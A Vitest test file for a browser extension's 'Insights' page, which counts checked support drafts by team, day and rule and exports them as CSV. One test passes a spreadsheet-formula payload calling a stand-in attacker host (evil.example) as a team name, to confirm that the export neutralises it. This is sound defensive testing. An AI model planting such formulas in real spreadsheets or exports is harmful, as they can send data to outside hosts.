// @vitest-environment happy-dom
import { h, render } from 'preact';
import { act } from 'preact/test-utils';
import { expect, test, vi } from 'vitest';
import { Insights, type InsightsProps } from '../src/options/insights.js';
import { emptyInsights, recordDraft, type Insights as Tally } from '../src/shared/insights.js';
import { byRole, click, nameOf, queryByRole, settle, textOf } from './popup-helpers.js';

vi.mock('webextension-polyfill', async () => ({ default: (await import('./popup-fake-browser.js')).fakeBrowser }));

const TODAY = new Date(2024, 4, 15, 10, 0);
const TEAMS = [
  { id: 'billing', name: 'Billing' },
  { id: 'vip', name: 'VIP' },
];
const LABELS = { 'trigger-policy': 'Hiding behind policy', thank: 'Thank the customer', apologize: 'Apologize' };

/** Billing: 3 drafts today, 2 of them hiding behind policy, one to an upset customer; VIP: 1 draft 20 days ago. */
function sample(): Tally {
  return [
    { teamId: 'billing', day: '2024-05-15', rules: ['trigger-policy', 'thank'], signals: ['customer-upset'] },
    { teamId: 'billing', day: '2024-05-15', rules: ['trigger-policy'], signals: [] },
    { teamId: 'billing', day: '2024-05-14', rules: [], signals: [] },
    { teamId: 'vip', day: '2024-04-25', rules: ['apologize'], signals: ['customer-hostile'] },
  ].reduce(recordDraft, emptyInsights());
}

function setup(stored: unknown, overrides: Partial<Pick<InsightsProps, 'load' | 'teams'>> = {}) {
  let value = stored;
  const props = {
    load: vi.fn(async () => value),
    clear: vi.fn(async () => {
      value = undefined;
    }),
    download: vi.fn((_name: string, _csv: string) => {}),
    teams: TEAMS,
    labels: LABELS,
    today: TODAY,
    ...overrides,
  } satisfies InsightsProps;
  return props;
}

async function mount(props: InsightsProps): Promise<HTMLElement> {
  document.body.innerHTML = '';
  const root = document.body.appendChild(document.createElement('div'));
  await act(() => {
    render(h(Insights, props), root);
  });
  await settle();
  return root;
}

function radio(root: HTMLElement, name: string): HTMLInputElement {
  const found = [...root.querySelectorAll<HTMLInputElement>('input[type="radio"]')].find((r) => nameOf(r) === name);
  if (!found) throw new Error(`no radio ${name}`);
  return found;
}

async function chooseTeam(root: HTMLElement, teamId: string): Promise<void> {
  const select = root.querySelector('select') as HTMLSelectElement;
  await act(() => {
    select.value = teamId;
    select.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await settle();
}

/** The rows of the numbers behind the chart: one per day shown. */
function dayRows(root: HTMLElement): number {
  return root.querySelectorAll('.insights-chart tbody tr').length;
}

function chartLabel(root: HTMLElement): string {
  return root.querySelector('svg[role="img"]')?.getAttribute('aria-label') ?? '';
}

test('with nothing counted yet, it says counts appear as drafts are checked and never include text', async () => {
  const root = await mount(setup(undefined));
  expect(textOf(root)).toContain('No counts yet. They appear here as drafts are checked, and they never include any text');
});

test.each([['garbage'], [{ version: 1, days: { billing: 'x', 'not an id!': {} } }], [{ version: 99, days: {} }], [[1, 2, 3]]])(
  'malformed stored data %j shows the empty state',
  async (stored) => {
    const root = await mount(setup(stored));
    expect([textOf(root).includes('No counts yet'), queryByRole(root, 'button', 'Export CSV')]).toEqual([true, null]);
  },
);

test('counts that cannot be read are reported, not shown as zero', async () => {
  const root = await mount(setup(undefined, { load: async () => Promise.reject(new Error('no storage')) }));
  expect(root.querySelector('[role="alert"]')?.textContent).toBe('The counts could not be read. Reload this page to try again.');
});

test('the chart is described for screen readers', async () => {
  const root = await mount(setup(sample()));
  expect(chartLabel(root)).toBe('Bar chart of drafts checked per day from Thu, May 9 to Wed, May 15: 3 in all, at most 2 on one day.');
});

test('the chart has one bar per day of the last 7 days', async () => {
  const root = await mount(setup(sample()));
  expect([root.querySelectorAll('svg rect').length, dayRows(root)]).toEqual([7, 7]);
});

test('switching from 7 to 30 days shows more days and older drafts', async () => {
  const root = await mount(setup(sample()));
  await click(radio(root, 'Last 30 days'));
  expect([dayRows(root), textOf(root).includes('Drafts checked in this period: 4')]).toEqual([30, true]);
});

test('the period choice is a keyboard-reachable radio group with 7 days chosen first', async () => {
  const root = await mount(setup(sample()));
  expect([
    radio(root, 'Last 7 days').checked,
    radio(root, 'Last 30 days').checked,
    root.querySelector('fieldset legend')?.textContent,
  ]).toEqual([true, false, 'Period']);
});

test('the checks that fired most are listed by name with their counts and share of drafts', async () => {
  const root = await mount(setup(sample()));
  const rows = [...root.querySelectorAll('#insights-checks ~ table tbody tr')].map(textOf);
  expect(rows).toEqual(['Hiding behind policy 2 67%', 'Thank the customer 1 33%']);
});

test('customer signals get readable names', async () => {
  const root = await mount(setup(sample()));
  await click(radio(root, 'Last 30 days'));
  const rows = [...root.querySelectorAll('#insights-signals ~ table tbody tr th')].map(textOf);
  expect(rows).toEqual(['Customer is hostile', 'Customer is upset']);
});

test('choosing a team shows only that team’s counts', async () => {
  const root = await mount(setup(sample()));
  await click(radio(root, 'Last 30 days'));
  await chooseTeam(root, 'vip');
  const checks = [...root.querySelectorAll('#insights-checks ~ table tbody tr th')].map(textOf);
  expect([textOf(root).includes('Drafts checked in this period: 1'), checks]).toEqual([true, ['Apologize']]);
});

test('a team with no drafts in the period says so in its lists', async () => {
  const root = await mount(setup(sample()));
  await chooseTeam(root, 'vip');
  expect(textOf(root.querySelector('[aria-labelledby="insights-checks"]') as HTMLElement)).toContain('None in this period.');
});

test('counts of a team that no longer exists can still be chosen', async () => {
  const tally = recordDraft(emptyInsights(), { teamId: 'old-team', day: '2024-05-15', rules: [], signals: [] });
  const root = await mount(setup(tally));
  const options = [...(root.querySelector('select') as HTMLSelectElement).options].map((o) => o.text);
  expect(options).toEqual(['All teams', 'Billing', 'VIP', 'old-team (removed team)']);
});

test('Export CSV downloads every count with the date in the file name', async () => {
  const props = setup(sample());
  const root = await mount(props);
  await click(byRole(root, 'button', 'Export CSV'));
  const [name, csv] = props.download.mock.calls[0] ?? [];
  expect([name, csv?.split('\r\n').slice(0, 4)]).toEqual([
    'tactful-insights-2024-05-15.csv',
    [
      'date,team,kind,id,count,team_name,name',
      '2024-04-25,vip,drafts,,1,VIP,',
      '2024-04-25,vip,check,apologize,1,VIP,Apologize',
      '2024-04-25,vip,signal,customer-hostile,1,VIP,Customer is hostile',
    ],
  ]);
});

test('a team name written as a formula cannot run in the exported CSV', async () => {
  const props = setup(sample(), { teams: [{ id: 'billing', name: '=IMPORTXML("http://evil.example")' }] });
  const root = await mount(props);
  await click(byRole(root, 'button', 'Export CSV'));
  expect(props.download.mock.calls[0]?.[1]).toContain('2024-05-14,billing,drafts,,1,"\'=IMPORTXML(""http://evil.example"")",');
});

test('Clear asks first and clears nothing until confirmed', async () => {
  const props = setup(sample());
  const root = await mount(props);
  await click(byRole(root, 'button', 'Clear all counts'));
  expect([textOf(root).includes('Clear all counts? This cannot be undone.'), props.clear.mock.calls.length]).toEqual([true, 0]);
});

test('Cancel keeps the counts and gives focus back to the Clear button', async () => {
  const props = setup(sample());
  const root = await mount(props);
  await click(byRole(root, 'button', 'Clear all counts'));
  await click(byRole(root, 'button', 'Cancel'));
  expect([props.clear.mock.calls.length, document.activeElement === byRole(root, 'button', 'Clear all counts')]).toEqual([0, true]);
});

test('the question takes focus on its safe answer, Cancel', async () => {
  const root = await mount(setup(sample()));
  await click(byRole(root, 'button', 'Clear all counts'));
  expect(document.activeElement === byRole(root, 'button', 'Cancel')).toBe(true);
});

test('confirming Clear empties the counts and says so', async () => {
  const props = setup(sample());
  const root = await mount(props);
  await click(byRole(root, 'button', 'Clear all counts'));
  await click(byRole(root, 'button', 'Clear'));
  expect([
    props.clear.mock.calls.length,
    root.querySelector('[role="status"]')?.textContent,
    textOf(root).includes('No counts yet'),
  ]).toEqual([1, 'All counts cleared.', true]);
});

test('every text shown comes from the messages, none is a missing key', async () => {
  const root = await mount(setup(sample()));
  await click(byRole(root, 'button', 'Clear all counts'));
  expect(textOf(root).match(/\binsights_\w+/g)).toBeNull();
});
